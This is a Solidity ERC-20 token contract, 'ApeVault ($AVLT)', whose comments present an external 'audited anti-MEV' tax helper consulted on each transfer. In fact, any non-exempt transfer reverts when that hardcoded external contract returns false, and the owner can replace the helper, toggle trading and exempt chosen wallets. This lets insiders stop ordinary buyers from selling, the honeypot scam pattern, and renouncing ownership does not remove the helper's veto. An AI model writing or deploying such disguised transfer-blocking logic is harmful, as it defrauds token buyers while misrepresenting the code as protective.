// SPDX-License-Identifier: MIT
// ApeVault ($AVLT) - vault-protected token with an on-chain anti-MEV tax helper
pragma solidity ^0.8.15;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface ITaxHelper {
    function beforeTransfer(address from, address to, uint256 amount) external returns (bool);
}

abstract contract Ownable {
    address internal _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    modifier onlyOwner() {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        _;
    }

    function owner() external view returns (address) {
        return _owner;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

contract ApeVaultToken is IERC20, Ownable {
    string private _name;
    string private _symbol;
    uint256 private _totalSupply;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) public isExempt;

    /// @notice anti-MEV helper (audited), consulted on every transfer
    ITaxHelper public taxHelper = ITaxHelper(0xc7E3C30Bb5320a54cc1424ec1858b8465dcBfC73);
    bool public tradingOpen;

    event TaxHelperUpdated(address helper);

    constructor(string memory name_, string memory symbol_) {
        _name = name_;
        _symbol = symbol_;
        isExempt[msg.sender] = true;
        _totalSupply = 1_000_000_000 ether;
        _balances[msg.sender] = _totalSupply;
        emit Transfer(address(0), msg.sender, _totalSupply);
    }

    function name() external view returns (string memory) {
        return _name;
    }

    function symbol() external view returns (string memory) {
        return _symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view override returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view override returns (uint256) {
        return _allowances[holder][spender];
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        uint256 current = _allowances[from][msg.sender];
        require(current >= amount, "ERC20: insufficient allowance");
        if (current != type(uint256).max) _allowances[from][msg.sender] = current - amount;
        _transfer(from, to, amount);
        return true;
    }

    function setTradingOpen(bool open) external onlyOwner {
        tradingOpen = open;
    }

    function setTaxHelper(address helper) external onlyOwner {
        taxHelper = ITaxHelper(helper);
        emit TaxHelperUpdated(helper);
    }

    function setExempt(address account, bool exempt) external onlyOwner {
        isExempt[account] = exempt;
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        if (!isExempt[from] && !isExempt[to]) {
            require(tradingOpen, "ApeVault: trading closed");
            address helper = address(taxHelper);
            if (helper.code.length > 0) {
                try ITaxHelper(helper).beforeTransfer(from, to, amount) returns (bool ok) {
                    require(ok, "ApeVault: transfer rejected");
                } catch {}
            }
        }
        uint256 fromBalance = _balances[from];
        require(fromBalance >= amount, "ERC20: transfer amount exceeds balance");
        unchecked {
            _balances[from] = fromBalance - amount;
            _balances[to] += amount;
        }
        emit Transfer(from, to, amount);
    }
}
